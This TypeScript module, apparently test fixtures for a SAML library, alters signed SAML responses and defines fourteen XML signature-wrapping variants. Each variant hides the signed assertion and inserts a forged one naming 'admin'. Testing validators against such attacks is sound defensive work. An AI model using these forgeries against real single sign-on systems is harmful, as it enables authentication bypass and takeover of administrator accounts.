/** Changes a response after it was signed; base64 in and out. */
export const forge = (base64: string, change: (xml: string) => string): string =>
  Buffer.from(change(Buffer.from(base64, 'base64').toString())).toString('base64')

const ASSERTION = /<saml:Assertion[\s\S]*<\/saml:Assertion>/
const SIGNATURE = /<ds:Signature[\s\S]*?<\/ds:Signature>/

const parts = (xml: string) => {
  const assertion = ASSERTION.exec(xml)![0]
  const signature = SIGNATURE.exec(assertion)?.[0] ?? SIGNATURE.exec(xml)![0]
  return { assertion, signature, bare: assertion.replace(SIGNATURE, '') }
}

const renamed = (assertion: string) => assertion.replace(/ID="[^"]*"/, 'ID="_evil"')
const asAdmin = (xml: string) => xml.replace(/(<saml:NameID[^>]*>)[^<]*/, '$1admin')
const endingWith = (xml: string, more: string) => xml.replace(/(<\/[^>]*>)$/, `${more}$1`)
const withObject = (signature: string, inner: string) =>
  signature.replace('</ds:Signature>', `<ds:Object>${inner}</ds:Object></ds:Signature>`)

/**
 * Signature wrapping: the signed assertion stays somewhere, and another one, about another user, stands where a parser
 * looks for it. The first four attack a signed response, the others a signed assertion.
 */
export const wrappings: Record<string, (xml: string) => string> = {
  'the signed response inside of its own signature': (xml) => {
    const { signature } = parts(xml)
    const bare = xml.replace(SIGNATURE, '')
    return endingWith(asAdmin(renamed(bare)), withObject(signature, bare))
  },
  'the signed response beside its signature': (xml) => {
    const { signature } = parts(xml)
    const bare = xml.replace(SIGNATURE, '')
    return endingWith(asAdmin(renamed(bare)), bare + signature)
  },
  'the signed response inside of another': (xml) =>
    endingWith(asAdmin(renamed(xml.replace(SIGNATURE, ''))), xml),
  'the signed response in the extensions of another': (xml) =>
    asAdmin(renamed(xml.replace(SIGNATURE, ''))).replace(
      '<samlp:Status>',
      () => `<samlp:Extensions>${xml}</samlp:Extensions><samlp:Status>`,
    ),
  'another assertion before the signed one': (xml) =>
    xml.replace(ASSERTION, (signed) => asAdmin(renamed(parts(xml).bare)) + signed),
  'another assertion after the signed one': (xml) =>
    xml.replace(ASSERTION, (signed) => signed + asAdmin(renamed(parts(xml).bare))),
  'another assertion with the same id': (xml) =>
    xml.replace(ASSERTION, (signed) => asAdmin(parts(xml).bare) + signed),
  'the signed assertion inside of another': (xml) =>
    xml.replace(ASSERTION, (signed) => endingWith(asAdmin(renamed(parts(xml).bare)), signed)),
  'another assertion with the signature of the first': (xml) => {
    const { signature, bare } = parts(xml)
    return xml.replace(ASSERTION, () => endingWith(asAdmin(renamed(bare)), signature) + bare)
  },
  'the signed assertion inside of the signature of another': (xml) => {
    const { signature, bare } = parts(xml)
    return xml.replace(ASSERTION, () => endingWith(asAdmin(renamed(bare)), withObject(signature, bare)))
  },
  'the signed assertion as an object of its own signature': (xml) => {
    const { assertion, signature, bare } = parts(xml)
    return xml.replace(ASSERTION, () => endingWith(asAdmin(renamed(bare)), withObject(signature, assertion)))
  },
  'another assertion in the extensions': (xml) =>
    xml.replace(
      '<samlp:Status>',
      () => `<samlp:Extensions>${asAdmin(renamed(parts(xml).bare))}</samlp:Extensions><samlp:Status>`,
    ),
  'the signed assertion in the extensions': (xml) => {
    const { assertion, bare } = parts(xml)
    return xml
      .replace(ASSERTION, () => asAdmin(renamed(bare)))
      .replace('<samlp:Status>', () => `<samlp:Extensions>${assertion}</samlp:Extensions><samlp:Status>`)
  },
  'another assertion of no known namespace': (xml) =>
    xml.replace(
      ASSERTION,
      (signed) =>
        asAdmin(renamed(parts(xml).bare))
          .replaceAll(/(<\/?)saml:/g, '$1evil:')
          .replace(' ', ' xmlns:evil="urn:evil" ') + signed,
    ),
}
